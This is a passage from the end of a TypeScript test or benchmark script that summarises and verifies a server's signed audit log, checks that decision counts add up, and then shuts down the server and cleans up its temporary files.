    `\n## audit log: ${totals.map((t) => `${fmt(t.n)} ${t.kind}`).join(", ")}; ${fmt(decisionsTotal)} decisions = ${decidedC} checks + ${fmt(warmDecided)} warm-up + ${fmt(decidedLoads)} loads: ${decisionsTotal === decidedC + warmDecided + decidedLoads ? "ok" : "MISMATCH"}; chain of ${fmt(report.entries)} entries, ${report.checkpoints} signed checkpoints: ${report.ok ? "verifies" : "DOES NOT VERIFY"} (${verifyS.toFixed(1)} s)`,
  );
  if (decisionsTotal !== decidedC + warmDecided + decidedLoads)
    fail("the log's decision entries do not add up to the requests decided");
  if (!report.ok) fail(`verify: ${report.problems.map((x) => x.message).join("; ")}`);
  console.log(`load average at the end: ${loadavg()}`);
} catch (error) {
  failed = true;
  console.error(error instanceof Error ? error.stack : String(error));
  if (server) console.error(`--- serve stderr:\n${server.stderr()}`);
} finally {
  if (server && server.child.exitCode === null) {
    await stopServer(server).catch((e) => console.error(String(e)));
  }
  await ro?.close();
  rmSync(tmp, { recursive: true, force: true });
  clearTimeout(watchdog);
}
if (failed) process.exitCode = 1;
